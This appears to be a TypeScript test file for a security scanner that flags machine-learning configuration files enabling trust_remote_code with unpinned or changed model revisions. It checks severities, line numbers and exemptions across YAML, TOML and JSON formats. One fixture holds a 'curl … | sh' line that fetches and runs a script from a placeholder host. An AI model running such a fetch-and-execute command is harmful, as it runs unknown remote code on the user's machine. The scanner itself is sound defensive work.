import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';
import { memoryBytes } from '../../../src/core/bytes.ts';
import { judged, verdicts } from './support.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const recipe = (rest: string): string => `model:\n  base_model: someone/m\n  ${rest}\n`;

describe('settings of a training', () => {
  it('are told where they trust the code of the model', async () => {
    const both = ['LOAD-REMOTE-CODE MEDIUM', 'LOAD-UNPINNED INFO'];
    expect(await verdicts('train.yaml', recipe('trust_remote_code: true'))).toEqual(both);
    const known = recipe('trust_remote_code: true').replace('someone', 'Qwen');
    expect(await verdicts('train.yaml', known)).toEqual(['LOAD-REMOTE-CODE LOW', 'LOAD-UNPINNED INFO']);
    const pinned = recipe(`trust_remote_code: true\n  revision_of_model: ${COMMIT}`);
    expect(await verdicts('train.yaml', pinned)).toEqual(['LOAD-REMOTE-CODE LOW']);
  });

  it.each(['trust_remote_code: false', 'trust_remote_code:', 'epochs: 3'])(
    'are not with %s',
    async (rest) => {
      expect(await verdicts('train.yaml', recipe(rest))).toEqual([]);
    },
  );

  it('are not where the model is a folder', async () => {
    const text = recipe('trust_remote_code: true').replace('someone/m', './m');
    expect(await verdicts('train.yaml', text)).toEqual([]);
  });

  it('are not read as a program', async () => {
    const text = `${recipe('trust_remote_code: true')}run: curl https://x.example.invalid/i | sh\n`;
    expect(await verdicts('train.yaml', text)).toEqual(['LOAD-REMOTE-CODE MEDIUM', 'LOAD-UNPINNED INFO']);
  });

  it.each([
    ['c.yaml', 'model:\n  name: someone/m\n  trust_remote_code: true\n', 3],
    ['c.yaml', 'engine_config:\n  model: someone/m\n  trust_remote_code: "True"\n', 3],
    ['c.yaml', 'trust_remote_code: yes\nmodel:\n  path: someone/m\n', 1],
    ['vllm.yaml', 'model: someone/m\ntrust-remote-code: true\n', 2],
    ['data.yml', 'datasets:\n  - path: someone/d\n    trust_remote_code: true\n', 3],
    ['eval.yaml', 'model: hf\nmodel_args: pretrained=someone/m,trust_remote_code=True\n', 2],
    ['eval.yaml', 'model: hf\nmodel_args:\n  pretrained: someone/m\n  trust_remote_code: True\n', 4],
    [
      'ray.yaml',
      'llm_configs:\n  - model_loading_config: {model_id: m, model_source: someone/m}\n    engine_kwargs:\n      trust_remote_code: true\n',
      4,
    ],
    [
      'values.yaml',
      'spec:\n  - name: a\n    modelURL: someone/m\n    vllmConfig:\n      extraArgs:\n        - "--trust-remote-code"\n',
      6,
    ],
    [
      'litellm.yaml',
      'list:\n- params:\n    model: someone/m\n    extra_args: --port 80 --trust-remote-code\n',
      4,
    ],
    ['c.toml', '[model]\nname = "someone/m"\ntrust_remote_code = true\n', 3],
    ['c.toml', 'model = "someone/m"\ntrust_remote_code = true\n', 2],
    ['train.json', '{\n"model_name_or_path": "someone/m",\n"trust_remote_code": true}\n', 3],
    ['serve.jsonc', '{\n // c\n "model": "someone/m",\n "trust_remote_code": true,\n}\n', 4],
  ])('stand on the line of the switch: %s %s', async (path, text, line) => {
    const switched = async (file: string): Promise<unknown[]> =>
      (await judged(path, file))
        .filter(({ rule }) => rule === 'LOAD-REMOTE-CODE')
        .map(({ severity, location }) => `${severity} ${location.line}`);
    expect(await switched(text)).toEqual([`MEDIUM ${line}`]);
    expect(await switched(text.replaceAll('someone/', './'))).toEqual([]);
    expect(
      await switched(text.replaceAll(/true\b|yes\b/gi, 'false').replace('--trust', '--no-trust')),
    ).toEqual([]);
  });

  it('say which setting names the model', async () => {
    const found = await judged('c.yaml', 'model: someone/m\ntrust_remote_code: true\n');
    expect(found.map(({ evidence }) => evidence)).toContain(
      'the setting model: "someone/m" imports code of the model repository, unpinned',
    );
  });

  it.each([
    ['openapi.yaml', 'openapi: 3.1.0\nx:\n  model: someone/m\n  trust_remote_code: true\n'],
    [
      'values.schema.json',
      '{"properties": {"m": {"model": "someone/m", "trust_remote_code": true}}, "examples": [{"model": "someone/m", "trust_remote_code": true}]}',
    ],
    [
      'results_2026.json',
      '{"results": {"arc": 1}, "config": {"model_args": "pretrained=someone/m,trust_remote_code=True"}}',
    ],
    ['c.yaml', '# trust_remote_code: true\nmodel: someone/m\n'],
    ['c.yaml', 'model: someone/m\nnotes: never set trust_remote_code to true\n'],
    ['c.yaml', 'a:\n  b:\n    c:\n      trust_remote_code: true\nmodel: someone/m\n'],
    ['package.json', '{"model": "someone/m", "trust_remote_code": true}'],
  ])('are none in %s: %s', async (path, text) => {
    expect(await verdicts(path, text)).toEqual([]);
  });

  const pinned = [
    ['c.yaml', 'model: someone/m\nrevision: @@\n'],
    ['lora.yml', 'base_model: someone/m\nrevision_of_model: @@\n'],
    ['c.toml', 'model = "someone/m"\nrevision = "@@"\n'],
    ['train.json', '{"model_name_or_path": "someone/m", "revision": "@@"}'],
    ['config.json', '{"model_name_or_path": "someone/m", "revision": "@@"}'],
    ['values.yaml', 'model:\n  repo: someone/m\n  revision: @@\n'],
  ] as const;
  it.each(pinned)('are told when the revision moves: %s %s', async (path, text) => {
    const now = (revision: string, was = COMMIT): Promise<string[]> => {
      const before = Buffer.from(text.replace('@@', was));
      return inspectBytes(Buffer.from(text.replace('@@', revision)), path, {
        before: () => Promise.resolve({ locator: { path, members: [] }, bytes: memoryBytes(before) }),
      }).then(({ findings }) => findings.map(({ rule, severity }) => `${rule} ${severity}`));
    };
    expect(await now('main')).toEqual(['LOAD-REVISION-MOVED MEDIUM']);
    expect(await now(COMMIT.replace('0', '1'))).toEqual(['LOAD-REVISION-MOVED LOW']);
    expect(await now(COMMIT)).toEqual([]);
    expect(await now('main', 'v1')).toEqual([]);
  });

  it('are told as far as a template is YAML', async () => {
    const text = `${recipe('trust_remote_code: true')}x: {{ value }}: [\n`;
    const { findings } = await inspectBytes(Buffer.from(text), 'train.yaml');
    expect(findings.map(({ rule }) => rule).sort()).toEqual(['LOAD-REMOTE-CODE', 'LOAD-UNPINNED']);
  });

  it('are gone through in linear time', async () => {
    const many = (each: string): string =>
      `{${Array.from({ length: 15_000 }, (_, at) => `"${at}":${each}`).join(',')}}`;
    const start = performance.now();
    await verdicts('a.json', many('{"trust_remote_code":true}'));
    await verdicts('a.json', `{"a":${many('[{"trust_remote_code":1}]')}}`);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});
